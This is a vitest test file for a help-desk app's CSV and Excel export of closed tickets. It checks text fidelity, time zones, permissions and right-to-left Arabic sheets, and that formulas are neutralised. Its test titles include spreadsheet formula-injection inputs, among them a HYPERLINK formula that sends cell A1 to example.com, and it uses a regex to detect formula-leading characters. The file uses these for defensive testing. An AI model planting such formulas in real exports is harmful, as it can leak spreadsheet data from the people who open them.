import { parse } from 'csv-parse/sync'
import type { Readable } from 'node:stream'
import { inflateRawSync } from 'node:zlib'
import { readSheet } from 'read-excel-file/node'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Character } from '../../testing/cast.server.ts'
import { openTestDesk, type TestDesk } from '../../testing/desk.server.ts'
import { callsTo } from '../../testing/call-endpoint.server.ts'
import { original } from '../../server/files/csv.ts'
import { close } from '../../workflow/close.server.ts'
import { rate } from '../../workflow/rate.server.ts'
import { reopen } from '../../workflow/reopen.server.ts'
import { submitTicket } from '../../workflow/submit-ticket.server.ts'
import { closedTicketsEndpoints } from './closed-tickets-endpoints.server.ts'

// What people write, and what a spreadsheet must neither reckon, split nor lose.
const titles = [
  '=HYPERLINK("http://example.com?"&A1,"Click")',
  '+1 555 0100 does not answer',
  '-2 instead of 2',
  '@everybody reads this',
  "'quoted already",
  "''twice",
  '＝1＋1',
  'comma, "quotes" and; semicolons',
  'الفاتورة رقم 8817 لا تظهر فيها الضريبة',
  '发票抬头需要修改 🧾',
  '_x0041_ stays as it is',
  '<b>&amp; not HTML</b>',
  '007',
]

let at: TestDesk
let numbers: number[]
let call: ReturnType<typeof callsTo>

beforeAll(async () => {
  at = await openTestDesk()
  call = callsTo(at.desk, closedTicketsEndpoints)
  await at.setSettings({ timeZone: 'Asia/Kathmandu' })
  const [salma, mariam] = [await at.person('salma'), await at.person('mariam')]
  numbers = []
  for (const title of titles) {
    const number = await submitTicket(at.desk, salma, { title, description: 'Please look.', language: 'en' })
    await close(at.desk, mariam, number, { reason: 'It is done.' })
    numbers.push(number)
  }
  await rate(at.desk, salma, numbers[0]!, { score: 2, comment: '=1+1 lines\nof two' })
})
afterAll(() => at.close())

async function file(address: string, query: object, who: Character = 'mariam') {
  const { answer, headers } = await call<Readable>(
    await at.person(who),
    `GET /api/v1/queries/closed-tickets${address}`,
    { query },
  )
  const chunks: Buffer[] = []
  for await (const chunk of answer) chunks.push(Buffer.from(chunk as Uint8Array))
  return { bytes: Buffer.concat(chunks), headers }
}

describe('CSV', () => {
  test('read back by another library, every text is what was written', async () => {
    const { bytes, headers } = await file('.csv', { sort: 'number' })
    expect(headers['content-disposition']).toBe('attachment; filename="closed-tickets-2026-03-02.csv"')
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const rows = parse<Record<string, string>>(bytes, { bom: true, columns: true, record_delimiter: '\r\n' })
    expect(rows.map((row) => original(row.title!))).toEqual(titles)
    expect(rows.map((row) => Number(row.number))).toEqual(numbers)
    const closing = await at.rowOf(numbers[0]!)
    expect(rows[0]).toMatchObject({
      titleLanguage: 'en',
      customer: 'Salma Idris',
      group: 'Support Desk',
      member: '',
      closedAt: closing.closed_at!.toISOString(),
      ended: 'desk',
      score: '2',
      duplicateOf: '',
    })
    expect(original(rows[0]!.comment!)).toBe('=1+1 lines\nof two')
  })

  test('no field begins as a formula', async () => {
    const { bytes } = await file('.csv', {})
    const fields = parse(bytes, { bom: true }).flat()
    expect(fields.filter((field) => /^[=+\-@\t\r＝＋－＠]/.test(field))).toEqual([])
  })

  test('it is narrowed like the list, and holds what its reader sees', async () => {
    const rowsOf = async (query: object, who: Character) =>
      parse<object>((await file('.csv', query, who)).bytes, { bom: true, columns: true }).length
    expect(await rowsOf({ score: '2' }, 'mariam')).toBe(1)
    expect(await rowsOf({}, 'salma')).toBe(titles.length)
    expect(await rowsOf({}, 'pierre')).toBe(0)
  })
})

describe('workbook', () => {
  test('read back by another library: texts are texts, numbers numbers, times real dates on the organisation’s clock', async () => {
    const { bytes } = await file('.xlsx', { sort: 'number' })
    const [header, ...rows] = await readSheet(bytes)
    expect(header!.slice(0, 2)).toEqual(['Number', 'Title'])
    expect(rows.map((row) => row[1])).toEqual(titles)
    expect(rows.map((row) => row[0])).toEqual(numbers)
    const closedAt = header!.indexOf('Closing date')
    const wall = (await at.rowOf(numbers[0]!)).closed_at!.getTime() + (5 * 60 + 45) * 60_000
    expect(rows[0]![closedAt]).toBeInstanceOf(Date)
    expect(Math.abs((rows[0]![closedAt] as unknown as Date).getTime() - wall)).toBeLessThan(1_000)
    expect(rows[0]!.slice(7, 11)).toEqual(['Closed by the support desk', null, 2, '=1+1 lines\nof two'])
  })

  test('for who reads Arabic, its headings are Arabic and the sheet runs from right to left', async () => {
    const { bytes } = await file('.xlsx', {}, 'lina')
    expect((await readSheet(bytes))[0]!.slice(0, 2)).toEqual(['الرقم', 'العنوان'])
    // the sheet is the first entry: 30 bytes and its name, then what is deflated
    const sheet = inflateRawSync(bytes.subarray(30 + 'xl/worksheets/sheet1.xml'.length)).toString()
    expect(sheet).toContain('<sheetView workbookViewId="0" rightToLeft="1">')
  })

  test('without a row it is still a workbook with its headings', async () => {
    const rows = await readSheet((await file('.xlsx', { score: '5' })).bytes)
    expect(rows).toHaveLength(1)
  })
})

test('once the ticket was reopened, the comment stood beside no stars', async () => {
  const [salma, mariam] = [await at.person('salma'), await at.person('mariam')]
  const commentsOf = async (number: number) => {
    const { bytes } = await file('.csv', { number: String(number), reopened: 'any', sort: 'closedAt' })
    const rows = parse<Record<string, string>>(bytes, { bom: true, columns: true })
    return rows.map(({ score, comment }) => [score, comment])
  }
  const number = await at.submitted()
  await close(at.desk, mariam, number, { reason: 'It is done.' })
  await rate(at.desk, salma, number, { score: 1, comment: 'Nothing was solved.' })
  await reopen(at.desk, salma, number, { reason: 'It is not solved.' })
  expect(await commentsOf(number)).toEqual([['1', 'Nothing was solved.']])
  await close(at.desk, mariam, number, { reason: 'It is done now.' })
  expect(await commentsOf(number)).toEqual([
    ['1', 'Nothing was solved.'],
    ['', ''],
  ])
  await rate(at.desk, salma, number, { score: 4, comment: 'Now it is.' })
  expect(await commentsOf(number)).toEqual([
    ['1', ''],
    ['4', 'Now it is.'],
  ])
})
